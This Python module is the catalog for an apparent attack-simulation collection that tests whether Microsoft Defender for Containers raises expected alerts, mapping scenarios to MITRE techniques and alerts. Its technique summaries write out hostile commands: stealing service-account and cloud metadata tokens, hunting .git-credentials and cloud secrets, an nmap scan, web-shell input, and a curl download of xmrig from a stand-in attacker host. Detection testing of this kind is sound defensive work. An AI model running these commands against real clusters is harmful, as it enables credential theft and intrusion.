# -*- coding: utf-8 -*-
# Copyright: Contributors to the defender.attack_simulation collection
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The one source of truth for scenarios, techniques and the alerts Defender for Containers should raise.

Modules, filters, roles (through the modules), docs and tests all read this file.
Alert facts come from Microsoft's documentation; where Microsoft documents no alert type id,
``alert_type`` is None (never invent one).
"""

from __future__ import annotations

import re

COLLECTION = "defender.attack_simulation"

SCENARIOS = ("recon", "lateral_movement", "secrets", "crypto", "webshell", "ti_domain")
# The original tool's "all": every scenario but webshell, in this order, in one run.
ALL_SCENARIOS = ("recon", "lateral_movement", "secrets", "crypto", "ti_domain")
SCENARIO_ALIASES = {"lateral-mov": "lateral_movement", "ti-domain": "ti_domain"}
SCENARIO_CHOICES = SCENARIOS + ("all",) + tuple(SCENARIO_ALIASES)

SCENARIO_TITLES = {
    "recon": "Reconnaissance",
    "lateral_movement": "Lateral movement to the cloud metadata service",
    "secrets": "Secrets gathering",
    "crypto": "Cryptomining",
    "webshell": "Web shell",
    "ti_domain": "Threat-intelligence test domain",
}

NEAR_REAL_TIME = "near_real_time"
UP_TO_ONE_HOUR = "up_to_one_hour"

# Techniques in the order they run. ``id`` is "<scenario>.<technique>"; the role has one task per id.
TECHNIQUES = (
    dict(id="recon.access_review", scenario="recon", mitre="T1552.007",
         name="read the service-account token and ask the API server what it may do",
         summary="POST a SelfSubjectAccessReview to https://kubernetes.default with the victim's token"),
    dict(id="recon.network_scan", scenario="recon", mitre="T1046",
         name="scan the API server's /24 for port 443 with nmap",
         summary="nmap -Pn --open kubernetes.default/24 -p 443"),
    dict(id="lateral_movement.metadata_token", scenario="lateral_movement", mitre="T1552.005",
         name="ask the cloud metadata service for an identity token",
         summary="GCP, then AWS (IMDSv2), then Azure IMDS at 169.254.169.254; print the cloud and a token prefix"),
    dict(id="secrets.git_credentials", scenario="secrets", mitre="T1552.001",
         name="search the file system for .git-credentials",
         summary="find / -path '*/.git-credentials', then cat each file found (credentials cut short after it)"),
    dict(id="secrets.service_account_token", scenario="secrets", mitre="T1528",
         name="read the service-account token",
         summary="cat the mounted service-account token into head -c 30"),
    dict(id="secrets.cloud_secret_env", scenario="secrets", mitre="T1552.001",
         name="look for a cloud secret in the environment",
         summary="set | grep GOOGLE_DEFAULT_CLIENT_SECRET=, AWS_SECRET_ACCESS_KEY= or AZURE_CREDENTIAL_FILE= (the cloud told apart by its metadata service)"),
    dict(id="crypto.cpu_optimization", scenario="crypto", mitre="T1496",
         name="load the msr kernel module to tune the CPU for mining",
         summary="/sbin/modprobe msr allow_writes=on (refused in a container: the attempt is the signal)"),
    dict(id="crypto.ld_so_preload", scenario="crypto", mitre="T1574.006",
         name="create /etc/ld.so.preload",
         summary="touch /etc/ld.so.preload and record whether it was created or refused"),
    dict(id="crypto.miner_download", scenario="crypto", mitre="T1105",
         name="download xmrig from the attacker",
         summary="curl -sO http://mdc-simulation-attacker/xmrig in the web server's working directory, chmod +x xmrig"),
    dict(id="crypto.miner_run", scenario="crypto", mitre="T1496",
         name="run the downloaded xmrig",
         summary="run ./xmrig (a copy of /bin/true that drifted from the image)"),
    dict(id="webshell.whoami", scenario="webshell", mitre="T1505.003",
         name="send whoami to the web shell",
         summary="cmd=whoami"),
    dict(id="ti_domain.test_domain", scenario="ti_domain", mitre="T1071.001",
         name="contact the threat-intelligence test domain",
         summary='curl -s -m 10 -X POST "http://mdc-eicar.alerts.security.azure.com?SendingData" -o /dev/null'),
)

_WEBSHELL_DELIVERED = tuple(t["id"] for t in TECHNIQUES if t["scenario"] != "ti_domain")

ALERTS = (
    dict(display_name="Possible Web Shell activity detected", alert_type=None,
         closest_documented_type="K8S.NODE_Webshell", severity="Medium", tactics=["Persistence"],
         latency=NEAR_REAL_TIME, condition=None,
         scenarios=["recon", "lateral_movement", "secrets", "crypto", "webshell"],
         triggered_by=list(_WEBSHELL_DELIVERED), aliases=[]),
    dict(display_name="Suspicious Kubernetes service account operation detected", alert_type=None,
         closest_documented_type="K8S_ServiceAccountRareOperation", severity="Medium",
         tactics=["Lateral Movement", "Credential Access"], latency=UP_TO_ONE_HOUR, condition=None,
         scenarios=["recon"], triggered_by=["recon.access_review"], aliases=[]),
    dict(display_name="Network scanning tool detected", alert_type=None, closest_documented_type=None,
         severity=None, tactics=None, latency=NEAR_REAL_TIME, condition=None,
         scenarios=["recon"], triggered_by=["recon.network_scan"], aliases=[]),
    dict(display_name="Suspicious access to workload identity token or service account token detected",
         alert_type=None, closest_documented_type=None, severity="Low", tactics=["Credential Access"],
         latency=NEAR_REAL_TIME, condition=None,
         scenarios=["recon"], triggered_by=["recon.access_review"], aliases=[]),
    dict(display_name="Access to cloud metadata service detected", alert_type="K8S.NODE_ImdsCall",
         closest_documented_type=None, severity="Medium", tactics=["Credential Access"],
         latency=NEAR_REAL_TIME, condition=None,
         scenarios=["lateral_movement"], triggered_by=["lateral_movement.metadata_token"], aliases=[]),
    dict(display_name="Sensitive files access detected", alert_type=None, closest_documented_type=None,
         severity="Medium", tactics=["Credential Access"], latency=NEAR_REAL_TIME, condition=None,
         scenarios=["secrets"], triggered_by=["secrets.git_credentials"], aliases=[]),
    dict(display_name="Possible secret reconnaissance detected", alert_type=None, closest_documented_type=None,
         severity="Medium", tactics=["Credential Access"], latency=NEAR_REAL_TIME, condition=None,
         scenarios=["secrets"], triggered_by=["secrets.git_credentials", "secrets.cloud_secret_env"], aliases=[]),
    dict(display_name="Kubernetes CPU optimization detected", alert_type=None, closest_documented_type=None,
         severity="High", tactics=["Impact"], latency=NEAR_REAL_TIME, condition=None,
         scenarios=["crypto"], triggered_by=["crypto.cpu_optimization"], aliases=[]),
    dict(display_name="Command within a container accessed ld.so.preload", alert_type=None,
         closest_documented_type=None, severity="Medium", tactics=["Defense Evasion"],
         latency=NEAR_REAL_TIME, condition=None,
         scenarios=["crypto"], triggered_by=["crypto.ld_so_preload"], aliases=[]),
    dict(display_name="Possible Cryptocoinminer download detected", alert_type="K8S.NODE_CryptoCoinMinerDownload",
         closest_documented_type=None, severity="Medium",
         tactics=["Defense Evasion", "Command and Control", "Exploitation"], latency=NEAR_REAL_TIME,
         condition=None, scenarios=["crypto"], triggered_by=["crypto.miner_download"],
         aliases=["Possible Crypto miners download detected"]),
    dict(display_name="A drift binary detected executing in the container", alert_type="K8S.NODE_DriftDetection",
         closest_documented_type=None, severity="High", tactics=["Execution"], latency=NEAR_REAL_TIME,
         condition=("fires only when the cluster's drift policy has a 'Drift detection alert' rule; "
                    "the default rule ignores drift"),
         scenarios=["crypto"], triggered_by=["crypto.miner_run"], aliases=[]),
    dict(display_name="Digital currency mining related behavior detected", alert_type="K8S.NODE_DigitalCurrencyMining",
         closest_documented_type=None, severity="High", tactics=["Execution"], latency=NEAR_REAL_TIME,
         condition=None, scenarios=["crypto"], triggered_by=["crypto.miner_download", "crypto.miner_run"],
         aliases=[]),
    dict(display_name="Communication with test domain identified by threat intelligence", alert_type=None,
         closest_documented_type="AzureDNS_ThreatIntelSuspectDomain", severity="Medium", tactics=["Initial Access"],
         latency=NEAR_REAL_TIME, condition=None,
         scenarios=["ti_domain"], triggered_by=["ti_domain.test_domain"], aliases=[]),
)

_TECHNIQUES_BY_ID = {t["id"]: t for t in TECHNIQUES}


class UnknownScenarioError(ValueError):
    """A scenario name that is not in the catalog."""


def normalize_scenarios(requested):
    """Return the canonical scenario names for ``requested`` (a name, a comma-separated string or a list),
    expanded (``all``), de-duplicated and in catalog order."""
    if isinstance(requested, str):
        requested = requested.split(",")
    names = [str(name).strip() for name in requested or []]
    unknown = [name for name in names if name not in SCENARIO_CHOICES]
    if unknown or not names:
        raise UnknownScenarioError(
            "unknown scenario %s; valid choices: %s"
            % (", ".join(repr(n) for n in unknown) or "(none given)", ", ".join(SCENARIO_CHOICES)))
    wanted = set()
    for name in names:
        name = SCENARIO_ALIASES.get(name, name)
        wanted.update(ALL_SCENARIOS if name == "all" else (name,))
    return [s for s in SCENARIOS if s in wanted]


def techniques_for(scenarios):
    """The techniques of ``scenarios`` (canonical names), in the order they run."""
    return [dict(t) for t in TECHNIQUES if t["scenario"] in scenarios]


def technique(technique_id):
    """One technique by id; KeyError names the id."""
    try:
        return dict(_TECHNIQUES_BY_ID[technique_id])
    except KeyError:
        raise KeyError("unknown technique %r; known: %s" % (technique_id, ", ".join(_TECHNIQUES_BY_ID)))


def alerts_for(scenarios):
    """The alerts expected for ``scenarios`` (canonical names), each once, in catalog order,
    with ``scenarios`` and ``triggered_by`` narrowed to the chosen scenarios."""
    chosen = set(scenarios)
    expected = []
    for alert in ALERTS:
        in_run = [s for s in alert["scenarios"] if s in chosen]
        if not in_run:
            continue
        entry = dict(alert)
        entry["scenarios"] = in_run
        entry["triggered_by"] = [t for t in alert["triggered_by"] if _TECHNIQUES_BY_ID[t]["scenario"] in chosen]
        expected.append(entry)
    return expected


_PREVIEW_SUFFIX = re.compile(r"\s*\(preview\)\s*$", re.IGNORECASE)


def _canonical_name(name):
    return _PREVIEW_SUFFIX.sub("", name or "").strip().casefold()


def alert_matches(alert, display_name=None, alert_type=None):
    """True when an alert seen in Defender for Cloud is this catalog alert: by display name
    (case-insensitive, ignoring a trailing " (Preview)", older spellings included) or by documented type."""
    if alert_type and alert.get("alert_type") and alert_type.casefold() == alert["alert_type"].casefold():
        return True
    seen = _canonical_name(display_name)
    return bool(seen) and seen in {_canonical_name(n) for n in [alert["display_name"]] + list(alert["aliases"])}
